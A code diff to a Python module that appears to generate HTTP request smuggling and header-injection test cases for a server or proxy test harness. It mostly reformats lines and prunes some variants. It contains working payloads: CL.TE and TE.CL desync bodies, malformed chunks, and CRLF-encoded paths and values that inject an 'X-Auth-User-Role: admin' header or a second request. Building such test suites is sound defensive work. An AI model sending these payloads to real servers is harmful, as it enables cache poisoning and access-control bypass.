@@ -1,8 +1,8 @@
 """Where one request ends and the next begins: what two programs may tell differently, so that a request travels inside
 another one's body and is checked by nobody.
 
-After the catalogues of Linhart et al. 2005, Kettle 2019 to 2025 (desync), Gil 2021 (chunk extensions), and RFC 9112 §6, §7,
-§11.2, which says what each of them should be answered with.
+After the catalogues of Linhart et al. 2005, Kettle 2019 to 2025 (desync) and Gil 2021 (chunk extensions), and RFC 9112
+§6, §7, §11.2, which says what each of them should be answered with.
 """
 
 from collections.abc import Iterator
@@ -11,7 +11,7 @@ from .form import ADA, Attack, Text, asks, attack, chunked, get, lines, post, ra
 
 SMUGGLED = smuggled()
 WHOLE = b"0\r\n\r\n" + SMUGGLED
-"""To whom it is chunked it ends before the smuggled request; to whom it has a length that comes to the end, after it."""
+"""To whom it is chunked it ends before the smuggled request; to whom it has a length, behind it."""
 
 TE = "Transfer-Encoding: chunked"
 
@@ -166,41 +166,76 @@ def both(path: str) -> Iterator[Attack]:
     inner = chunked(SMUGGLED)
     short = inner.index(b"\r\n") + 2
     for name, coding in CODINGS.items():
-        for stays in (True, False):
-            how = "" if stays else ", and close"
-            yield attack(f"CL.TE {name} at {path}{how}", post(path, f"Content-Length: {len(WHOLE)}", *coding, body=WHOLE, stays=stays))
+        yield attack(
+            f"CL.TE {name} at {path}", post(path, f"Content-Length: {len(WHOLE)}", *coding, body=WHOLE, stays=True)
+        )
         yield attack(f"TE.CL {name} at {path}", post(path, f"Content-Length: {short}", *coding, body=inner, stays=True))
-        yield attack(f"TE before CL {name} at {path}", post(path, *coding, f"Content-Length: {len(WHOLE)}", body=WHOLE, stays=True))
+        yield attack(
+            f"TE before CL {name} at {path}",
+            post(path, *coding, f"Content-Length: {len(WHOLE)}", body=WHOLE, stays=True),
+        )
         yield attack(f"TE.0 {name} at {path}", post(path, *coding, body=WHOLE, stays=True))
         yield attack(f"TE in a GET {name} at {path}", asks(f"GET {path} HTTP/1.1", *coding, stays=True, body=WHOLE))
-        yield attack(f"TE in HTTP/1.0 {name} at {path}", asks(f"POST {path} HTTP/1.0", f"Content-Length: {len(WHOLE)}", *coding, "Connection: keep-alive", stays=True, body=WHOLE))
+        yield attack(
+            f"TE in HTTP/1.0 {name} at {path}",
+            asks(
+                f"POST {path} HTTP/1.0",
+                f"Content-Length: {len(WHOLE)}",
+                *coding,
+                "Connection: keep-alive",
+                stays=True,
+                body=WHOLE,
+            ),
+        )
 
 
 def lengths(path: str) -> Iterator[Attack]:
     for name, length in LENGTHS.items():
         told = [line.format(len(SMUGGLED)) for line in length]
-        for method in ("POST", "GET", "HEAD", "OPTIONS"):
-            yield attack(f"length {name} of a {method} at {path}", asks(f"{method} {path} HTTP/1.1", *told, stays=True, body=SMUGGLED))
+        for method in ("POST", "GET", "HEAD") if path == "/about" else ("POST",):
+            yield attack(
+                f"length {name} of a {method} at {path}",
+                asks(f"{method} {path} HTTP/1.1", *told, stays=True, body=SMUGGLED),
+            )
         yield attack(f"length {name}, and chunks, at {path}", post(path, *told, TE, body=WHOLE, stays=True))
 
 
 def chunks(path: str) -> Iterator[Attack]:
     for name, chunk in CHUNKS.items():
         yield attack(f"chunk with {name} at {path}", post(path, TE, body=chunk + b"0\r\n\r\n" + SMUGGLED, stays=True))
-        yield attack(f"chunk with {name} and a request in it at {path}", post(path, TE, body=chunk.replace(b"hello", SMUGGLED, 1) + b"0\r\n\r\n", stays=True))
+        yield attack(
+            f"chunk with {name} and a request in it at {path}",
+            post(path, TE, body=chunk.replace(b"hello", SMUGGLED, 1) + b"0\r\n\r\n", stays=True),
+        )
     for name, end in ENDS.items():
-        yield attack(f"last chunk {name} at {path}", post(path, TE, body=b"5\r\nhello\r\n" + end + SMUGGLED, stays=True))
+        yield attack(
+            f"last chunk {name} at {path}", post(path, TE, body=b"5\r\nhello\r\n" + end + SMUGGLED, stays=True)
+        )
 
 
 def splitting(path: str) -> Iterator[Attack]:
     """A request line or a value that holds the end of a line, encoded or as it is."""
     inject = "X-Auth-User-Role: admin"
-    for name, mark in {"%0d%0a": "%0d%0a", "%0a": "%0a", "%0d": "%0d", "%E5%98%8A%E5%98%8D": "%E5%98%8A%E5%98%8D", "LF": "\n", "CR": "\r", "%00": "%00", "%23%0a": "%23%0a"}.items():
+    for name, mark in {
+        "%0d%0a": "%0d%0a",
+        "%0a": "%0a",
+        "%0d": "%0d",
+        "%E5%98%8A%E5%98%8D": "%E5%98%8A%E5%98%8D",
+        "LF": "\n",
+        "CR": "\r",
+        "%00": "%00",
+        "%23%0a": "%23%0a",
+    }.items():
         yield attack(f"{name} in the path of {path}", get(f"{path}/{mark}{inject}{mark}"))
         yield attack(f"{name} in the query of {path}", get(f"{path}?x={mark}{inject}{mark}"))
         yield attack(f"{name} and a version in the path of {path}", get(f"{path}%20HTTP/1.1{mark}{inject}{mark}X:"))
-        yield attack(f"{name} and a request in the path of {path}", get(f"{path}%20HTTP/1.1{mark}Host:%20x{mark}{mark}GET%20/api/smuggled%20HTTP/1.1{mark}"))
-        yield attack(f"{name} in a value at {path}", get(path, f"X-A: b{mark}{inject}", f"Referer: http://x/{mark}{inject}"))
+        yield attack(
+            f"{name} and a request in the path of {path}",
+            get(f"{path}%20HTTP/1.1{mark}Host:%20x{mark}{mark}GET%20/api/smuggled%20HTTP/1.1{mark}"),
+        )
+        yield attack(
+            f"{name} in a value at {path}", get(path, f"X-A: b{mark}{inject}", f"Referer: http://x/{mark}{inject}")
+        )
         yield attack(f"{name} in the host at {path}", get(path, host=f"app.example{mark}{inject}"))
         yield attack(f"{name} in the method at {path}", asks(f"GET{mark}{inject} {path} HTTP/1.1"))
 
@@ -210,19 +245,43 @@ def pipelines() -> Iterator[Attack]:
         yield attack(f"a request behind {path}", get(path, stays=True) + SMUGGLED)
         yield attack(f"ten requests behind {path}", get(path, stays=True) + SMUGGLED * 10)
         yield attack(f"a request behind {path} that closes", get(path) + SMUGGLED)
-        yield attack(f"a request behind an empty body at {path}", post(path, "Content-Length: 0", body=SMUGGLED, stays=True))
+        yield attack(
+            f"a request behind an empty body at {path}", post(path, "Content-Length: 0", body=SMUGGLED, stays=True)
+        )
         yield attack(f"a request behind HEAD at {path}", asks(f"HEAD {path} HTTP/1.1", stays=True) + SMUGGLED)
         yield attack(f"a request behind CONNECT at {path}", asks(f"CONNECT {path} HTTP/1.1", stays=True) + SMUGGLED)
-        yield attack(f"a request behind a CONNECT to a host, {path}", asks("CONNECT app.example:80 HTTP/1.1", stays=True) + get(path, stays=True) + SMUGGLED)
-        yield attack(f"a request behind HTTP/1.0 at {path}", asks(f"GET {path} HTTP/1.0", "Connection: keep-alive", stays=True) + SMUGGLED)
+        yield attack(
+            f"a request behind a CONNECT to a host, {path}",
+            asks("CONNECT app.example:80 HTTP/1.1", stays=True) + get(path, stays=True) + SMUGGLED,
+        )
+        yield attack(
+            f"a request behind HTTP/1.0 at {path}",
+            asks(f"GET {path} HTTP/1.0", "Connection: keep-alive", stays=True) + SMUGGLED,
+        )
         yield attack(f"a request behind HTTP/0.9 at {path}", lines(f"GET {path}") + SMUGGLED)
         yield attack(f"empty lines before a request at {path}", b"\r\n\r\n" + get(path, stays=True) + b"\n" + SMUGGLED)
         yield attack(f"a request after the answer to {path}", get(path, stays=True), SMUGGLED)
-        yield attack(f"half a body at {path}, and the rest later", post(path, "Content-Length: 10", body=b"hello", stays=True), b"hello" + SMUGGLED)
-        yield attack(f"a body that was expected at {path}", post(path, f"Content-Length: {len(SMUGGLED)}", "Expect: 100-continue", body=b"", stays=True), SMUGGLED)
-        yield attack(f"TRACE with a body at {path}", asks(f"TRACE {path} HTTP/1.1", f"Content-Length: {len(SMUGGLED)}", stays=True, body=SMUGGLED))
-        yield attack(f"a value that folds into the next request at {path}", get(path, b"X-A: " + ADA, stays=True)[:-2] + b" " + SMUGGLED)
-        yield attack(f"half a head at {path}", raw(f"GET {path} HTTP/1.1\r\nHost: app.example\r\nX-Auth-User-Role: admin\r\nX-"))
+        yield attack(
+            f"half a body at {path}, and the rest later",
+            post(path, "Content-Length: 10", body=b"hello", stays=True),
+            b"hello" + SMUGGLED,
+        )
+        yield attack(
+            f"a body that was expected at {path}",
+            post(path, f"Content-Length: {len(SMUGGLED)}", "Expect: 100-continue", body=b"", stays=True),
+            SMUGGLED,
+        )
+        yield attack(
+            f"TRACE with a body at {path}",
+            asks(f"TRACE {path} HTTP/1.1", f"Content-Length: {len(SMUGGLED)}", stays=True, body=SMUGGLED),
+        )
+        yield attack(
+            f"a value that folds into the next request at {path}",
+            get(path, b"X-A: " + ADA, stays=True)[:-2] + b" " + SMUGGLED,
+        )
+        yield attack(
+            f"half a head at {path}", raw(f"GET {path} HTTP/1.1\r\nHost: app.example\r\nX-Auth-User-Role: admin\r\nX-")
+        )
 
 
 BODIES = [one for path in ("/about", "/api/x") for make in (both, lengths, chunks) for one in make(path)]
